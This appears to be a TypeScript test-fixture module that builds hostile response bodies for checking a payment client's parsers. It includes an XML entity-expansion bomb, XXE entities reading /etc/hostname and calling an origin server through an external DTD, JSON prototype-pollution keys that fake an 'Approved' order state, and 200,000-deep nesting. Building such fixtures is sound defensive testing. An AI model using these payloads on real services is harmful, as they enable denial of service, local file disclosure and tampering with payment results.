/** Bodies that attack whoever reads them. */

/** Ten times ten times … of "lol", a file of this machine, and an address that would be noticed in the request log. */
export function hostileXml(origin: string): string {
  const laughs = Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? "" : level};`.repeat(10)}">`,
  );
  return `<?xml version='1.0' encoding='utf-8' standalone='no'?>
<!DOCTYPE result [
<!ENTITY lol "lol">
${laughs.join("\n")}
<!ENTITY file SYSTEM "file:///etc/hostname">
<!ENTITY call SYSTEM "${origin}/hostile-xml-was-here">
<!ENTITY % outside SYSTEM "${origin}/hostile-xml-was-here.dtd">
%outside;
]>
<result firstcode='0' secondcode='0' count='1'><order><ordernumber>&lol9;</ordernumber><billnumber>&file;</billnumber><orderamount>&call;</orderamount><orderstate>Approved</orderstate></order></result>
`;
}

/** Keys that poison prototypes, then nesting deeper than a stack. */
export function hostileJson(service: string): string {
  const depth = 200_000;
  const poison = `"__proto__":{"orderstate":"Approved","polluted":true},"constructor":{"prototype":{"polluted":true}}`;
  return `{${poison},"${service}":{${poison},"orderstate":"Approved","operations":${"[".repeat(depth)}${"]".repeat(depth)}}}`;
}

export function htmlPage(): string {
  return "<!DOCTYPE html>\n<html><head><title>Maintenance</title></head><body><h1>The service is being maintained</h1><p>Approved AS000</p></body></html>\n";
}
